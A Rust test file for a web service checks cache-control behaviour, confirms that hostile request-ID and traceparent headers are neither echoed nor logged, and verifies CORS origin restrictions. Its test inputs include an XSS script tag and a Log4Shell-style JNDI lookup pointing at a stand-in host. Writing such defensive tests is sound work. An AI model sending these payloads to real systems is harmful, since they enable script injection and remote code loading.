//! Header fields of clients: their effects, and the harmlessness of hostile ones.

use picarcade_testkit::{Answer, MockProvider};
use reqwest::header::HeaderValue;
use reqwest::{Method, Response};
use serde_json::{Value, json};

use crate::service::Service;

#[tokio::test]
async fn cache_control_skips_reads_and_writes() {
    let mock = MockProvider::start().await.unwrap();
    mock.answer_with(Answer::of("EDIT_IMAGE"));
    let service = Service::start(&[("ANTHROPIC_API_KEY", "k"), ("ANTHROPIC_BASE_URL", &mock.url())]).await;
    let ask = async |control: &str| {
        let body = json!({"prompt": "make the sky purple", "active_image": true});
        let request = service.request(Method::POST, "/api/v2/process").header("cache-control", control);
        let answer: Value = request.json(&body).send().await.unwrap().json().await.unwrap();
        (answer["cache"]["intent"].as_str().unwrap().to_owned(), mock.count())
    };
    let expect = |word: &str, calls: u64| (word.to_owned(), calls);
    assert_eq!(ask("no-store").await, expect("bypass", 1));
    // Nothing was stored.
    assert_eq!(ask("max-age=0").await, expect("miss", 2));
    assert_eq!(ask("public").await, expect("l1", 2));
    assert_eq!(ask("max-age=5, No-Cache").await, expect("bypass", 3));
    assert_eq!(ask("no-cache, no-store").await, expect("bypass", 4));
    assert_eq!(ask("").await, expect("l1", 4));
}

#[tokio::test]
async fn hostile_request_ids_and_traces_are_not_repeated() {
    let service = Service::start(&[("RUST_LOG", "debug")]).await;
    let send = async |name: &str, value: &[u8]| -> Response {
        let value = HeaderValue::from_bytes(value).unwrap();
        service.request(Method::GET, "/health/live").header(name, value).send().await.unwrap()
    };
    for hostile in [
        &b"<script>alert(1)</script>"[..],
        b"a\tb",
        b"\xff\xfe",
        "é".as_bytes(),
        b"\"quoted\"",
        b"back\\slash",
        &[b'x'; 5000],
        b"",
        b"${jndi:ldap://evil.example/x} y",
    ] {
        let response = send("x-request-id", hostile).await;
        assert_eq!(response.status(), 200);
        let id = response.headers()["x-request-id"].clone();
        assert_ne!(id.as_bytes(), hostile);
        assert!(uuid::Uuid::parse_str(id.to_str().unwrap()).is_ok(), "{id:?}");
    }
    assert_eq!(send("x-request-id", b"req_1.2:3/4-5").await.headers()["x-request-id"], "req_1.2:3/4-5");
    let traces = [
        ("00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", true),
        ("00-5bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-x", false),
        ("00-00000000000000000000000000000000-00f067aa0ba902b7-01", false),
        ("00-6bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01", false),
        ("ff-7bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", false),
        ("00-8BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01", false),
        ("evil", false),
    ];
    for (trace, _) in traces {
        assert_eq!(send("traceparent", trace.as_bytes()).await.status(), 200);
    }
    crate::service::until("the lines are written", async || {
        service.log().iter().filter(|line| line.contains("\"answered\"")).count() >= 17
    })
    .await;
    let log = service.log().join("\n");
    for (trace, good) in traces {
        let id = trace.split('-').nth(1).unwrap_or("evil").to_lowercase();
        assert_eq!(log.to_lowercase().contains(&format!("\"{id}\"")), good, "{trace}");
    }
    assert!(!log.contains("alert(1)") && !log.contains("jndi"), "{log}");
}

#[tokio::test]
async fn pages_of_other_origins_read_nothing() {
    let origins = "https://app.example, http://localhost:3000";
    let service = Service::start(&[("PICARCADE_CORS_ORIGINS", origins)]).await;
    let ask = async |method: Method, origin: &str| {
        let request = service
            .request(method, "/api/v2/usage")
            .header("origin", origin)
            .header("access-control-request-method", "POST")
            .header("access-control-request-headers", "authorization,content-type,x-user-id");
        request.send().await.unwrap()
    };
    for origin in ["https://app.example", "http://localhost:3000"] {
        let preflight = ask(Method::OPTIONS, origin).await;
        assert_eq!(preflight.headers()["access-control-allow-origin"], origin);
        let allowed = preflight.headers()["access-control-allow-headers"].to_str().unwrap().to_owned();
        assert!(["authorization", "content-type", "x-user-id"].iter().all(|name| allowed.contains(name)));
        let answer = ask(Method::GET, origin).await;
        assert_eq!(answer.headers()["access-control-allow-origin"], origin);
        let exposed = answer.headers()["access-control-expose-headers"].to_str().unwrap().to_owned();
        assert!(["ratelimit", "retry-after", "x-request-id"].iter().all(|name| exposed.contains(name)));
        // One cache may hold the responses to several origins.
        assert!(
            answer.headers().get_all("vary").iter().any(|vary| vary.to_str().unwrap().contains("origin"))
        );
    }
    for origin in [
        "https://evil.example",
        "https://app.example.evil.example",
        "null",
        "http://app.example",
        "https://app.example:8443",
    ] {
        for method in [Method::OPTIONS, Method::GET] {
            let response = ask(method, origin).await;
            assert!(!response.headers().contains_key("access-control-allow-origin"), "{origin}");
        }
    }
    let none = Service::start(&[]).await;
    let request = none.request(Method::GET, "/api/v2/usage").header("origin", "https://app.example");
    assert!(!request.send().await.unwrap().headers().contains_key("access-control-allow-origin"));
}
